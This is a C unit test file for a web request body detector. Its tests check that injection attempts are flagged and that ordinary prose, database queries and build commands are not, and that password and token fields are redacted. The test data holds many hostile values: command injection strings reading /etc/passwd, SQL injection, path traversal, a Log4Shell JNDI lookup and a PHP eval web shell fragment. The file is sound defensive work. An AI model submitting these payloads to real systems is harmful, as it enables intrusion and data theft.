#include "detect/behaviour/web_body.h"

#include "check.h"

static bool finds(const char *name, const char *value, struct web_plain *plain,
                  struct web_sign *sign)
{
    struct body_field field = {bytes_of_text(name), bytes_of_text(value)};
    return web_body_sign(&field, plain, sign);
}

static void assert_found(const char *name, const char *value, enum web_attack kind)
{
    struct web_plain plain;
    struct web_sign sign;
    if (!finds(name, value, &plain, &sign) || sign.kind != kind) {
        fail_msg("not found: %s=%s", name, value);
    }
}

static void assert_nothing(const char *name, const char *value)
{
    struct web_plain plain;
    struct web_sign sign;
    if (finds(name, value, &plain, &sign)) {
        fail_msg("found in: %s=%s", name, value);
    }
}

static void finds_what_was_added_to_a_value(void **state)
{
    (void)state;
    assert_found("host", "127.0.0.1; cat /etc/passwd", WEB_COMMAND);
    assert_found("host", "192.0.2.1 && chmod +x /tmp/a", WEB_COMMAND);
    assert_found("host", "localhost;id -u", WEB_COMMAND);
    assert_found("name", "x`whoami`", WEB_COMMAND);
    assert_found("file", "a.txt$(uname -a)", WEB_COMMAND);
    assert_found("user", "admin' or '1'='1", WEB_SQL);
    assert_found("id", "1' union select user, pass from users--", WEB_SQL);
    assert_found("password", "' or 1=1 --", WEB_SQL);
    assert_found("page", "../../../etc/passwd", WEB_TRAVERSAL);
    assert_found("page", "%2e%2e/%2e%2e/etc/passwd", WEB_TRAVERSAL);
    assert_found("username", "${jndi:dns://192.0.2.1/a}", WEB_CODE);
    assert_found("z", "@eval(base64_decode($_POST[z0]));", WEB_CODE);
    assert_found("class.module.classLoader.x", "y", WEB_CODE);
    assert_found("", "x;cat /etc/passwd", WEB_COMMAND);
}

static void leaves_what_people_write_alone(void **state)
{
    (void)state;
    static const char *const texts[] = {
        "Use `cat /etc/passwd` to list users",
        "try `ls -la`",
        "`ls -la`",
        "see `1' or 1=1 --`",
        "To list them: first do this; cat /etc/passwd shows all",
        "How do I prevent ' or 1=1 in a form?",
        "' or 1=1 is the classic SQL injection",
        "' or 1=1 est le cas d'\xc3\xa9"
        "cole que tout \xc3\xa9"
        "l\xc3\xa8ve conna\xc3\xaet",
        "The path ../../../etc/passwd was asked for",
        "../../../etc/passwd is the classic example",
        "Somebody sent ${jndi:ldap://192.0.2.1/a} to us",
        "<p><code>'; drop table users; --</code></p>",
        "Run this:\n\n; cat /etc/passwd\n",
        "<?php\nphpinfo();\n",
        "she called it 'quoted'-- as one does",
    };
    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++) {
        assert_nothing("content", texts[i]);
    }
}

static void leaves_logins_and_searches_alone(void **state)
{
    (void)state;
    assert_nothing("user", "o'brien");
    assert_nothing("password", "S3cret;&|`$(x'\"--");
    assert_nothing("q", "cat /etc/passwd");
    assert_nothing("q", "select a phone or a tablet");
}

static void a_question_to_a_database_is_no_injection(void **state)
{
    (void)state;
    static const char *const questions[] = {
        "select name from information_schema.tables where 1=1",
        "insert into a (b) values ((select c from d))",
        "update a set b = (select c from d)",
        "delete from a where b in (select c from d)",
        "create table a as (select b from c)",
        "alter table a (1=1 or 2=2)",
        "with a as (select b from c) select 1",
        "show x where 1=1 or 2=2",
        "explain select a from b where 1=1 or 2=2",
    };
    for (size_t i = 0; i < sizeof questions / sizeof *questions; i++) {
        assert_nothing("sql_query", questions[i]);
    }
    assert_found("id", "1 and (select c from d)=1", WEB_SQL);
}

static void a_line_of_commands_is_no_injection(void **state)
{
    (void)state;
    static const char *const names[] = {"cmd", "command", "commands", "script",    "scripts",
                                        "run", "exec",    "args",     "entrypoint"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        assert_nothing(names[i], "x;cat /etc/hostname");
    }
    assert_nothing("build", "make && ls -la");
    assert_nothing("step", "cd /build && ls -la");
    assert_nothing("test", "./run all; cat /tmp/log");
    assert_found("host", "x;cat /etc/hostname", WEB_COMMAND);
}

/* Words of a list of keywords are no words of a sentence. */
static void counts_no_keyword_as_a_word(void **state)
{
    (void)state;
    assert_found("id", "1' and not exists (select a from b where c is not null order by d)--",
                 WEB_SQL);
}

/* Markup is what closes behind where it opens: a page, or a part of one. */
static void what_does_not_close_is_no_markup(void **state)
{
    (void)state;
    assert_nothing("user", "admin' or '1'='1<b>");
    assert_nothing("user", "admin' or '1'='1</b >");
    assert_found("user", "admin' or '1'='1<b", WEB_SQL);
    assert_found("user", "a>admin' or '1'='1<b", WEB_SQL);
    assert_found("user", "admin' or '1'='1<1>", WEB_SQL);
    assert_found("user", "<a<a<a<a<a' or '1'='1", WEB_SQL);
}

static void shows_no_secret(void **state)
{
    (void)state;
    static const struct {
        const char *name;
        const char *shown;
    } rows[] = {
        {"user", "words"},
        {"password", "[redacted]"},
        {"user[password]", "[redacted]"},
        {"Api-Key", "[redacted]"},
        {"passenger", "words"},
        {"pass", "[redacted]"},
        {"a[b][token]", "[redacted]"},
    };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct body_field field = {bytes_of_text(rows[i].name), bytes_of_text("x")};
        struct trace_name shown;
        web_body_show(&field, bytes_of_text(" words "), &shown);
        if (!bytes_equal_text(trace_name_get(&shown), rows[i].shown)) {
            fail_msg("%s", rows[i].name);
        }
    }
}

static void is_as_in_a_query(void **state)
{
    (void)state;
    struct web_plain plain;
    struct body_field named = {bytes_of_text("Cmd"), bytes_of_text("CHMOD  +x\ta")};
    web_body_plain(&named, &plain);
    assert_bytes(web_plain_get(&plain), "cmd=chmod +x a");
    struct body_field bare = {BYTES_NONE, bytes_of_text("id")};
    web_body_plain(&bare, &plain);
    assert_bytes(web_plain_get(&plain), "id");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(finds_what_was_added_to_a_value),
        cmocka_unit_test(leaves_what_people_write_alone),
        cmocka_unit_test(leaves_logins_and_searches_alone),
        cmocka_unit_test(a_question_to_a_database_is_no_injection),
        cmocka_unit_test(a_line_of_commands_is_no_injection),
        cmocka_unit_test(counts_no_keyword_as_a_word),
        cmocka_unit_test(what_does_not_close_is_no_markup),
        cmocka_unit_test(shows_no_secret),
        cmocka_unit_test(is_as_in_a_query),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
